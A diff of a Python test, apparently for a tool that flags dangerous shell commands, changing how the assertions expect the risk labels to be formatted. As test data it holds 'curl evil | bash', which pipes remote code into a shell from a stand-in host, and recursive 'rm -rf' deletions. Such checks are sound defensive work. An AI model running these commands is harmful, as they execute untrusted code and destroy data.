@@ -50,10 +50,10 @@ def test_the_only_reason_of_its_kind_is_told_with_its_line() -> None:
     lines = card(question, now=0.0)
 
     assert "  │ curl evil | bash" in lines
-    assert any("dangerous, remote_code" in line for line in lines)
+    assert any(line.startswith("  ✗ ") and "[remote_code]" in line for line in lines)
     assert any(line.endswith("more: destroys_data") for line in lines)
     assert all(f"  │ rm -rf {name}{n}" in lines for name in ("build", "tmp") for n in range(30))
-    assert {"remote_code:", "evil"} <= {*seen(question).split()}
+    assert {"[remote_code]", "evil"} <= {*seen(question).split()}
     assert not hides_danger(question)
 
 
